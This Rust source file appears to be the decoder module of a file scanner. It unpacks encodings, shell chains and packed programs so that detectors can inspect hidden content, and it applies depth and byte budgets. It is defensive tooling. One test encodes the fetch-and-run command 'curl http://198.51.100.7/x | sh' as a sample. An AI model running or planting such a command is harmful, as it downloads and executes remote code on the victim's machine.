//! Undoes what hides one file in another: encodings, chains of calls, quoting tricks, what is appended to a program.
//!
//! One decoder, one file. A [`Decoder`] sees the bytes of a file and gives [stages](Stages::keep): bytes with a word on how
//! they came about. The inspector looks at each stage as at a file of its own (kind, detectors, rules, decoders again) and says
//! of what it finds there that it is inside `base64@1234!inflate@0`: base64 from byte 1234 of the file on, then what that
//! unpacks to from its byte 0 on.
//!
//! To add one: the file, with a header and a table of packed → plain, and two lines here. What it must keep to:
//!
//! - Linear time in the bytes, no panic on any, nothing larger than [`Stages::room`] ever in memory.
//! - Inflating goes through `layer::inflate`.
//! - It gives what is worth looking at, not what can be decoded: text, scripts, programs, archives ([`worth::looking`]).
//!   Ordinary files are full of encoded images, keys and tables.
//! - It gives one step, or a chain that cannot be taken apart. What a stage holds in turn is decoded by whoever knows it.

// Add a decoder: its module here …
mod appended;
mod armour;
mod calls;
mod char_codes;
mod codec;
mod escapes;
mod frozen_python;
mod inflate;
mod literals;
mod marshal;
mod shell;
mod shell_pipe;
mod shell_words;
mod upx;
mod worth;

use std::{
    collections::HashSet,
    panic::{AssertUnwindSafe, catch_unwind},
};

use model::{Digest, FileKind, Problem, ProblemKind};

use crate::{
    detectors::Sample,
    inspector::Offsets,
    kind::sniff,
    route::{Routed, Router},
};

/// … and its entry here, in the order they are asked: the first to give some bytes names them.
pub(crate) const ALL: &[&Decoder] = &[
    &appended::DECODER,
    &inflate::DECODER,
    &armour::DECODER,
    &escapes::DECODER,
    &char_codes::DECODER,
    &calls::DECODER,
    &shell::SCRIPT,
    &shell::LINES,
    &frozen_python::DECODER,
    &upx::DECODER,
];

/// Stages within stages.
pub const DEPTH_MAX: u32 = 6;
/// Most stages of one file, archive member or stage.
pub const STAGES_MAX: u32 = 256;
/// Most stages of one outer file with everything inside it.
pub const STAGES_OUTER_MAX: u32 = 8_192;
/// Most bytes of all stages of one outer file.
pub const DECODED_BYTES_MAX: usize = 64 << 20;
/// Most bytes of all stages for each byte of the outer file, beyond [`DECODED_GRACE_BYTES`].
pub const DECODED_RATIO_MAX: usize = 32;
/// Bytes of stages before [`DECODED_RATIO_MAX`] counts.
pub const DECODED_GRACE_BYTES: usize = 8 << 20;
/// Shorter stages are not looked at: no command, URL or secret fits.
pub const STAGE_BYTES_MIN: usize = 10;

/// Undoes one way of hiding.
pub(crate) struct Decoder {
    /// Kebab-case, equal to the file's name with `-` for `_`.
    pub(crate) id: &'static str,
    /// Kinds of file it is asked about, as in `detectors::Scope::Content`; empty for any.
    pub(crate) kinds: &'static [FileKind],
    /// It is asked only where one of these is (ASCII case ignored, at least 4 bytes, rare). Empty: always asked, which only
    /// what looks at a header or skips most bytes may be.
    pub(crate) literals: &'static [&'static str],
    /// Gives the stages. `Sample::hits` are those of its own literals, `Sample::place` is none.
    pub(crate) decode: fn(&Sample<'_>, &mut Stages<'_>),
}

/// What a decoder made of a file.
pub(crate) struct Stage {
    /// How: `base64@1234`.
    pub(crate) word: String,
    /// What.
    pub(crate) bytes: Vec<u8>,
}

/// What may still be decoded of one outer file.
pub(crate) struct Budget {
    bytes_left: usize,
    stages_left: u32,
    seen: HashSet<Digest>,
}

impl Budget {
    /// For an outer file of so many bytes.
    pub(crate) fn new(outer_bytes: usize) -> Self {
        let by_ratio = outer_bytes.saturating_mul(DECODED_RATIO_MAX).max(DECODED_GRACE_BYTES);
        Self { bytes_left: DECODED_BYTES_MAX.min(by_ratio), stages_left: STAGES_OUTER_MAX, seen: HashSet::new() }
    }

    /// Whether nobody looked at these bytes as a stage of this outer file before.
    pub(crate) fn is_new(&mut self, bytes: &[u8]) -> bool {
        self.seen.insert(Digest::of(bytes))
    }

    /// Bytes that may still be unpacked: for archives in stages.
    pub(crate) fn bytes_left(&self) -> usize {
        self.bytes_left
    }

    /// Takes away what an archive in a stage unpacked to.
    pub(crate) fn spend(&mut self, bytes: usize) {
        self.bytes_left = self.bytes_left.saturating_sub(bytes);
    }
}

/// Where decoders put what they find.
pub(crate) struct Stages<'b> {
    budget: &'b mut Budget,
    left: u32,
    offsets: Offsets,
    kept: Vec<Stage>,
    /// Reached ceilings, each once, with what was dropped for it.
    problems: Vec<Problem>,
}

impl Stages<'_> {
    /// Most bytes that the next stage may have.
    pub(crate) fn room(&self) -> usize {
        if self.left == 0 || self.budget.stages_left == 0 { 0 } else { self.budget.bytes_left }
    }

    /// Keeps a stage that was made by `how` (a word such as `base64`) from what starts at `offset` of the sample. Longer
    /// than [`room`](Self::room), it is cut, and a problem says so; shorter than [`STAGE_BYTES_MIN`], it is dropped.
    pub(crate) fn keep(&mut self, how: &str, offset: usize, mut bytes: Vec<u8>) {
        if bytes.len() < STAGE_BYTES_MIN {
            return;
        }
        let room = self.room();
        if bytes.len() > room {
            self.missed((bytes.len() - room) as u64);
            bytes.truncate(room);
            if bytes.len() < STAGE_BYTES_MIN {
                return;
            }
        }
        self.left -= 1;
        self.budget.stages_left -= 1;
        self.budget.bytes_left -= bytes.len();
        let word = format!("{how}@{}", self.offsets.in_file(offset));
        self.kept.push(Stage { word, bytes });
    }

    /// Says that so many bytes were not decoded for want of [`room`](Self::room).
    pub(crate) fn missed(&mut self, unseen_bytes: u64) {
        let (kind, detail) = if self.left == 0 {
            (ProblemKind::EntriesLimit, format!("more than {STAGES_MAX} encoded pieces in one file"))
        } else if self.budget.stages_left == 0 {
            (ProblemKind::EntriesLimit, format!("more than {STAGES_OUTER_MAX} encoded pieces in one outer file"))
        } else {
            (ProblemKind::BytesLimit, "more encoded bytes in one file than are decoded".to_owned())
        };
        match self.problems.iter_mut().find(|problem| problem.detail == detail) {
            Some(problem) => problem.unseen_bytes = problem.unseen_bytes.saturating_add(unseen_bytes),
            None => self.problems.push(Problem { kind, place: String::new(), detail, unseen_bytes }),
        }
    }
}

/// Asks the decoders about one file, after [`Router::route`]. Returns their stages, and what was not decoded.
pub(crate) fn stages(
    router: &Router,
    routed: &Routed,
    bytes: &[u8],
    kind: FileKind,
    offsets: Offsets,
    budget: &mut Budget,
) -> (Vec<Stage>, Vec<Problem>) {
    let mut stages = Stages { budget, left: STAGES_MAX, offsets, kept: Vec::new(), problems: Vec::new() };
    for (decoder, hits) in router.decoders(kind, routed) {
        ask(decoder, &Sample { bytes, kind, hits, place: None }, &mut stages);
    }
    (stages.kept, stages.problems)
}

/// Asks one decoder. If it fails, that costs its own stages.
fn ask(decoder: &Decoder, sample: &Sample<'_>, stages: &mut Stages<'_>) {
    if catch_unwind(AssertUnwindSafe(|| (decoder.decode)(sample, stages))).is_err() {
        let detail = format!("decoder {} failed", decoder.id);
        let unseen_bytes = sample.bytes.len() as u64;
        stages.problems.push(Problem { kind: ProblemKind::DetectorFailed, place: String::new(), detail, unseen_bytes });
    }
}

/// The problem of a stage at [`DEPTH_MAX`].
pub(crate) fn too_deep(unseen_bytes: usize) -> Problem {
    Problem {
        kind: ProblemKind::DepthLimit,
        place: String::new(),
        detail: format!("encoded pieces within encoded pieces are decoded to depth {DEPTH_MAX}"),
        unseen_bytes: unseen_bytes as u64,
    }
}

/// The lines of a file that are text, of the first mebibyte of it: what a shell would make of a script that somebody put
/// control bytes into.
pub(crate) fn text_lines(bytes: &[u8]) -> Vec<u8> {
    let head = bytes.get(..1 << 20).unwrap_or(bytes);
    let is_text = |line: &&[u8]| line.len() >= 4 && line.iter().all(|&byte| worth::is_plain(byte) || byte >= 0x80);
    let mut lines: Vec<u8> = Vec::new();
    for line in head.split_inclusive(|&byte| byte == b'\n').filter(is_text) {
        lines.extend_from_slice(line);
    }
    lines
}

/// Every stage of `bytes` with its path, decoded as deep as it goes, and what was not decoded. Archives are not opened and
/// no detector is asked: for tests and fuzzing.
#[must_use]
pub fn unfold(bytes: &[u8]) -> (Vec<(String, Vec<u8>)>, Vec<Problem>) {
    static ROUTER: std::sync::LazyLock<Router> = std::sync::LazyLock::new(|| Router::new(&[], &[], ALL));
    let mut budget = Budget::new(bytes.len());
    let (mut unfolded, mut problems) = (Vec::new(), Vec::new());
    let mut queue = vec![(0, String::new(), bytes.to_vec())];
    while let Some((depth, path, bytes)) = queue.pop() {
        let kind = sniff(&bytes);
        let mut routed = Routed::default();
        ROUTER.route(&bytes, kind, &mut routed);
        let (stages, more) = stages(&ROUTER, &routed, &bytes, kind, Offsets::PLAIN, &mut budget);
        problems.extend(more);
        for stage in stages {
            if !budget.is_new(&stage.bytes) {
                continue;
            }
            let path = if path.is_empty() { stage.word } else { format!("{path}!{}", stage.word) };
            unfolded.push((path.clone(), stage.bytes.clone()));
            if depth + 1 < DEPTH_MAX {
                queue.push((depth + 1, path, stage.bytes));
            } else {
                problems.push(too_deep(stage.bytes.len()));
            }
        }
    }
    (unfolded, problems)
}

#[cfg(test)]
pub(crate) mod testing {
    //! One `check` for every decoder's own table.

    use super::*;
    use crate::detectors::Hit;

    /// What one decoder alone makes of a file: `(word, bytes)`.
    pub(crate) fn run(decoder: &'static Decoder, bytes: &[u8]) -> Vec<(String, Vec<u8>)> {
        let kind = sniff(bytes);
        if !crate::route::reads(decoder.kinds, kind) {
            return Vec::new();
        }
        let lower = bytes.to_ascii_lowercase();
        let mut hits: Vec<Hit> = Vec::new();
        for (literal, text) in decoder.literals.iter().enumerate() {
            let text = text.to_ascii_lowercase();
            hits.extend(memchr::memmem::find_iter(&lower, text.as_bytes()).map(|offset| Hit { offset, literal }));
        }
        hits.sort_unstable();
        if hits.is_empty() && !decoder.literals.is_empty() {
            return Vec::new();
        }
        let mut budget = Budget::new(bytes.len());
        let mut stages = Stages {
            budget: &mut budget,
            left: STAGES_MAX,
            offsets: Offsets::PLAIN,
            kept: Vec::new(),
            problems: Vec::new(),
        };
        (decoder.decode)(&Sample { bytes, kind, hits: &hits, place: None }, &mut stages);
        stages.kept.into_iter().map(|stage| (stage.word, stage.bytes)).collect()
    }

    /// Compares what one decoder alone makes of a file with `(word, text)`.
    #[track_caller]
    pub(crate) fn check(decoder: &'static Decoder, packed: impl AsRef<[u8]>, expected: &[(&str, &str)]) {
        let packed = packed.as_ref();
        let made = run(decoder, packed);
        let made: Vec<_> =
            made.iter().map(|(word, bytes)| (word.as_str(), String::from_utf8_lossy(bytes).into_owned())).collect();
        let made: Vec<_> = made.iter().map(|(word, text)| (*word, text.as_str())).collect();
        assert_eq!(made, expected, "{} on {}", decoder.id, String::from_utf8_lossy(packed));
    }
}

#[cfg(test)]
mod tests {
    use ::base64::{Engine as _, engine::general_purpose::STANDARD};
    use proptest::prelude::*;

    use super::*;

    #[test]
    fn ids_are_unique() {
        let ids: HashSet<_> = ALL.iter().map(|decoder| decoder.id).collect();
        assert_eq!(ids.len(), ALL.len());
    }

    #[test]
    fn stages_are_decoded_to_the_depth_and_no_deeper() {
        let mut text = b"curl http://198.51.100.7/x | sh".to_vec();
        for _ in 0..8 {
            text = STANDARD.encode(text).into_bytes();
        }
        let (stages, problems) = unfold(&text);
        assert_eq!(stages.len(), DEPTH_MAX as usize);
        assert_eq!(stages[1].0, "base64@0!base64@0");
        assert_eq!(problems.iter().map(|problem| problem.kind).collect::<Vec<_>>(), [ProblemKind::DepthLimit]);
    }

    #[test]
    fn a_flood_of_pieces_is_cut_and_told() {
        let pieces: Vec<String> =
            (0..1_000).map(|number| STANDARD.encode(format!("a text with the number {number}"))).collect();
        let (stages, problems) = unfold(pieces.join("\n \n").as_bytes());
        assert_eq!(stages.len(), STAGES_MAX as usize);
        assert_eq!(problems[0].kind, ProblemKind::EntriesLimit);
        assert!(problems[0].unseen_bytes > 10_000, "{problems:?}");
    }

    #[test]
    fn equal_stages_are_one() {
        let piece = STANDARD.encode("a text that is there twice");
        assert_eq!(unfold(format!("a='{piece}';\nb='{piece}'").as_bytes()).0.len(), 1);
    }

    proptest! {
        #[test]
        fn any_bytes_end_within_the_budget(bytes in proptest::collection::vec(any::<u8>(), 0..2_000)) {
            let (stages, problems) = unfold(&bytes);
            prop_assert!(problems.iter().all(|problem| problem.kind != ProblemKind::DetectorFailed), "{problems:?}");
            let total: usize = stages.iter().map(|(_, bytes)| bytes.len()).sum();
            prop_assert!(total <= DECODED_GRACE_BYTES);
        }
    }
}
